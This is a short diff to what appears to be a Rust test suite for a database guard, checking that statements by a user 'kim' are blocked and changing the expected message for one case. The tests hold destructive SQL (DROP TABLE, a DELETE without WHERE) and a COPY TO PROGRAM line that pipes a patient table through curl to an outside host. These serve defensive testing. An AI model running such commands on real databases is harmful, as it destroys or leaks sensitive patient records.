@@ -110,7 +110,7 @@ fn blocked(stage: &Stage) -> Outcome<()> {
     );
     expect(&stage.psql("kim", "DROP TABLE patient")?, "dropping or truncating")?;
     expect(&stage.psql("kim", "WITH gone AS (DELETE FROM patient RETURNING *) SELECT count(*) FROM gone")?, "WHERE")?;
-    expect(&stage.psql("kim", "COPY patient TO PROGRAM 'curl -T - https://example.org'")?, "refused")
+    expect(&stage.psql("kim", "COPY patient TO PROGRAM 'curl -T - https://example.org'")?, "out of the database")
 }
 
 fn approval(stage: &mut Stage) -> Outcome<()> {
